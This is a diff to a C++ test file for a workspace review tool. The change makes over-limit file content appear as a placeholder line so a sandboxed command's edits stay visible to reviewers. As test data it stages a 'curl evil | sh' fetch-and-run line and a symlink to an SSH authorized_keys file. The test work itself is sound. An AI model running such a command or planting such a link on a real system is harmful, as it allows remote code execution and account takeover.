@@ -169,30 +169,46 @@ TEST_F(WorkspaceReviewTest, AMissingRedactedCopyIsAnError) {
   }
 }
 
-// Content over the reviewer's per-file limit, on either side, is a binary
-// change ("Binary files ... differ" after an index line: `git apply` refuses
-// the patch, where without it it left the file out), never an
-// empty file: a large file cut short showed as every line of it added, and a
-// file staged under a larger limit as every line removed.
-TEST_F(WorkspaceReviewTest, ContentOverThePerFileLimitIsABinaryChangeNotAnEmptyFile) {
+// Content that cannot be shown (over the reviewer's per-file limit) is one
+// placeholder line, never an empty side: a large file cut short showed as
+// every line of the new one added, a file staged under a larger limit as
+// every line removed. The other side is shown in full: called binary as a
+// whole, a sandboxed command's edit of a host file over the limit (which
+// it can see) hid the text it wrote, which the commit then applied unseen.
+// `git apply` refuses the placeholder, as it matches no file.
+TEST_F(WorkspaceReviewTest, ContentThatCannotBeShownIsOnePlaceholderLineNotAnEmptySide) {
   write_file(dir_ / "big", std::string(40, 'x') + "\n");
   Workspace smaller(dir_.path(), default_workspace_policy(), WorkspaceLimits{.max_file_bytes = 16});
   const auto tx = smaller.create_transaction();
-  smaller.stage_write(tx, "big", "small now\n");  // its base is not kept: over the limit
+  smaller.stage_write(tx, "big", "curl evil | sh\n");  // its base is not kept: over the limit
   EXPECT_EQ(smaller.diff(tx),
-            "diff --git a/big b/big\nindex 0000000..0000000 100644\n"
-            "Binary files a/big and b/big differ\n");
-  EXPECT_TRUE(smaller.diff_stat(tx).at(0).binary);
+            "diff --git a/big b/big\n--- a/big\n+++ b/big\n@@ -1 +1 @@\n"
+            "-[content not shown: over the per-file limit, or unreadable]\n"
+            "+curl evil | sh\n");
+  auto stat = smaller.diff_stat(tx).at(0);
+  EXPECT_FALSE(stat.binary);
+  EXPECT_EQ(stat.not_shown, "before");
+  EXPECT_EQ(stat.added_lines, 1u);
+  EXPECT_EQ(stat.removed_lines, 0u);
 
   Workspace ws(dir_.path());
   const auto grown = ws.create_transaction();
   ws.stage_write(grown, "README", std::string(20, 'y') + "\n");
   EXPECT_EQ(smaller.diff(grown),
-            "diff --git a/README b/README\nindex 0000000..0000000 100644\n"
-            "Binary files a/README and b/README differ\n");
-  const auto stat = smaller.diff_stat(grown);
-  EXPECT_TRUE(stat.at(0).binary);
-  EXPECT_EQ(stat.at(0).removed_lines, 0u);
+            "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1 +1 @@\n"
+            "-readme\n+[content not shown: over the per-file limit, or unreadable]\n");
+  stat = smaller.diff_stat(grown).at(0);
+  EXPECT_FALSE(stat.binary);
+  EXPECT_EQ(stat.not_shown, "after");
+  EXPECT_EQ(stat.added_lines, 0u);
+  EXPECT_EQ(stat.removed_lines, 1u);
+
+  // A symlink put where the file was: its target is shown.
+  const auto linked = smaller.create_transaction();
+  smaller.stage_symlink(linked, "big", "/home/user/.ssh/authorized_keys");
+  const std::string diff = smaller.diff(linked);
+  EXPECT_NE(diff.find("+/home/user/.ssh/authorized_keys"), std::string::npos) << diff;
+  EXPECT_EQ(diff.find("Binary"), std::string::npos) << diff;
 }
 
 // A review that meets a staged file moved or removed by a commit or a
